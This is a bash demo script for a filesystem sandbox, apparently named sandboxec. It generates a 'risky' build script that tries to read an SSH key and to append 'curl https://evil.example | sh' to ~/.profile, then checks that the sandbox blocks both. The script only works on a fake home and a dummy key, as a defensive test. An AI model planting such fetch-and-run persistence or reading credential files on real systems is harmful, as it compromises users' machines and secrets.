#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# `make demo`: the main job in one scenario. A "risky" build script is
# asked to read and write its project; it also tries to read an SSH key and
# to append to ~/.profile. It runs once without a sandbox (everything
# works: the denials below are real), then under the CLI and under the
# LD_PRELOAD shim with the same policy, and once with a policy that
# forgot the rx rule, to show sandboxec's own error.
#
#   scripts/demo.sh [BUILD]     (BUILD defaults to build/)
#
# Prints "allowed: ..." and "denied: ..." lines; exits 0 only if every
# allowed action worked and every denied one was denied. Everything happens
# in a temporary directory with its own HOME; the real home is not touched.
# SBX_DEMO_CLI / SBX_DEMO_SHIM override the binaries (the test uses that to
# check that the demo fails when nothing is enforced).
set -u

top=$(cd "$(dirname "$0")/.." && pwd)
build=${1:-$top/build}
cli=${SBX_DEMO_CLI:-$build/sandboxec}
shim=${SBX_DEMO_SHIM:-$build/libsandboxec.so}
for f in "$cli" "$shim"; do
	if [ ! -e "$f" ]; then
		echo "demo: $f is missing; run make first" >&2
		exit 1
	fi
done
# The demo works from its own directory: make both paths absolute.
cli=$(realpath "$cli")
shim=$(realpath "$shim")

# The demo's world: a project, a home with a planted key, no SANDBOXEC_*
# settings or user config from the caller.
for v in $(compgen -e | grep '^SANDBOXEC_'); do unset "$v"; done
unset LD_PRELOAD
demo=$(mktemp -d /tmp/sandboxec-demo.XXXXXX)
trap 'rm -rf "$demo"' EXIT
project=$demo/project
export HOME=$demo/home XDG_CONFIG_HOME=$demo/home/.config XDG_DATA_HOME=$demo/home/.local/share
export LC_ALL=C
mkdir -p "$project" "$HOME/.ssh" "$XDG_CONFIG_HOME"

cat >"$project/risky-build.sh" <<'EOF'
#!/bin/sh
# A build step that does more than it says. Each attempt prints
# "did: WHAT" or "failed: WHAT: error".
attempt() {
	what=$1
	shift
	if out=$("$@" 2>&1); then
		echo "did: $what"
	else
		echo "failed: $what: $out"
	fi
}
attempt "read project/notes.txt" cat notes.txt
attempt "write project/build.log" sh -c 'echo built >build.log'
attempt "read ~/.ssh/id_ed25519" cat "$HOME/.ssh/id_ed25519"
attempt "append to ~/.profile" sh -c 'echo "curl https://evil.example | sh" >>"$HOME/.profile"'
EOF

reset_world() {
	echo "release notes for 1.0" >"$project/notes.txt"
	rm -f "$project/build.log"
	echo "-----BEGIN DEMO KEY----- (planted by the demo) -----END DEMO KEY-----" \
		>"$HOME/.ssh/id_ed25519"
	chmod 600 "$HOME/.ssh/id_ed25519"
	echo "# the user's profile" >"$HOME/.profile"
}

# The policy: run programs from /usr, read and write the project, nothing else.
policy=(--fs rx:/usr --fs "rw:$project")
policy_env="rx:/usr,rw:$project"
allowed_actions=("read project/notes.txt" "write project/build.log")
denied_actions=("read ~/.ssh/id_ed25519" "append to ~/.profile")
problems=0

# judge LABEL OUTPUT — prints allowed:/denied: lines for the attempts the
# risky script reported, and counts anything that went the wrong way.
judge() {
	local label=$1 output=$2 what line
	for what in "${allowed_actions[@]}"; do
		if grep -qxF "did: $what" <<<"$output"; then
			echo "  allowed: $what"
		else
			line=$(grep -F "failed: $what" <<<"$output")
			echo "  PROBLEM ($label): '$what' should be allowed: ${line:-no report}"
			problems=$((problems + 1))
		fi
	done
	for what in "${denied_actions[@]}"; do
		line=$(grep -F "failed: $what: " <<<"$output")
		if [ -n "$line" ]; then
			echo "  denied:  $what (${line#"failed: $what: "})"
		else
			echo "  PROBLEM ($label): '$what' was not denied"
			problems=$((problems + 1))
		fi
	done
}

cd "$project" || exit 1
echo "sandboxec demo in $demo"
echo "policy: ${policy[*]}"
echo

reset_world
echo "1. without a sandbox, the script does everything it tries:"
out=$(sh risky-build.sh)
sed 's/^/  /' <<<"$out"
if [ "$(grep -c '^did: ' <<<"$out")" -ne 4 ]; then
	echo "  PROBLEM: the unsandboxed run should do all four things; the demo cannot show denials"
	problems=$((problems + 1))
fi
echo

# sandboxed LABEL HEADING CMD... — runs the risky script as CMD under a
# fresh world and judges what it managed to do.
sandboxed() {
	local label=$1 heading=$2
	shift 2
	reset_world
	echo "$heading"
	judge "$label" "$("$@" 2>&1)"
	if [ "$(cat "$HOME/.profile")" != "# the user's profile" ]; then
		echo "  PROBLEM ($label): ~/.profile was changed"
		problems=$((problems + 1))
	fi
	echo
}

sandboxed CLI "2. under the CLI: sandboxec ${policy[*]} -- sh risky-build.sh" \
	"$cli" "${policy[@]}" -- sh risky-build.sh
sandboxed shim "3. under the shim: LD_PRELOAD=$shim SANDBOXEC_FS=$policy_env sh risky-build.sh" \
	env LD_PRELOAD="$shim" SANDBOXEC_FS="$policy_env" sh risky-build.sh

reset_world
echo "4. a policy without rx:/usr cannot even start the shell; sandboxec says why:"
echo "   sandboxec --fs rw:$project -- sh risky-build.sh"
err=$("$cli" --fs "rw:$project" -- sh risky-build.sh 2>&1 >/dev/null)
status=$?
if [ "$status" -eq 126 ] && [ "${err#sandboxec: }" != "$err" ]; then
	echo "  denied:  exec sh (exit 126) $err"
else
	echo "  PROBLEM: want exit 126 and a sandboxec: message, got exit $status: $err"
	problems=$((problems + 1))
fi
echo

if [ "$problems" -ne 0 ]; then
	echo "demo: FAILED: $problems problem(s) above"
	exit 1
fi
echo "demo: OK: the project was readable and writable; the key and ~/.profile were not"
